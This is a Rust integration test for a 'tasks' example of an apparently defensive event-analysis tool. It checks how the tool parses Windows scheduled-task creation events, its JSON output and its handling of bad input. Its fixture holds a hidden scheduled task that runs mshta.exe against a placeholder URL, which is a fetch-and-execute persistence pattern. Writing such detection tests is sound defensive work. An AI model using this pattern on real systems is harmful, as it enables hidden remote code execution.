//! Runs the `tasks` example as a user would.

mod common;

use std::path::Path;
use std::process::Command;

fn run_tasks(exe: &Path, args: &[&str]) -> (bool, String, String) {
    let out = Command::new(exe).args(args).output().expect("run the tasks example");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn tasks_example_tree_json_and_bad_input() {
    let Some(exe) = common::example("tasks") else { return };
    let dir = std::env::temp_dir().join(format!("beaconstat-example-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let input = dir.join("events.json");
    std::fs::write(
        &input,
        concat!(
            r#"{"EventID":4698,"Channel":"Security","Hostname":"WS1","TimeCreated":"2024-01-01T10:00:00Z","SubjectUserName":"bob","SubjectDomainName":"CORP","TaskName":"\\Upd","TaskContent":"<Task><Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>mshta.exe</Command><Arguments>http://x/y</Arguments></Exec></Actions></Task>"}"#,
            "\n",
            "this line is not JSON\n",
        ),
    )
    .unwrap();
    let inp = input.to_str().unwrap();

    let (ok, out, err) = run_tasks(&exe, &[inp]);
    assert!(ok, "{err}");
    assert!(out.contains("task \\Upd"), "{out}");
    assert!(out.contains("Hidden"), "{out}");
    assert!(out.contains("1 skipped"), "{out}");
    assert!(err.contains("line 2"), "skip reported with its line: {err}");

    let (ok, out, _) = run_tasks(&exe, &["--json", inp]);
    assert!(ok);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["hosts"][0]["tasks"][0]["name"], "\\Upd");

    let missing = Path::new(&dir).join("nope.json");
    let (ok, _, err) = run_tasks(&exe, &[missing.to_str().unwrap()]);
    assert!(!ok);
    assert!(err.contains("nope.json"), "{err}");
    let _ = std::fs::remove_dir_all(&dir);
}
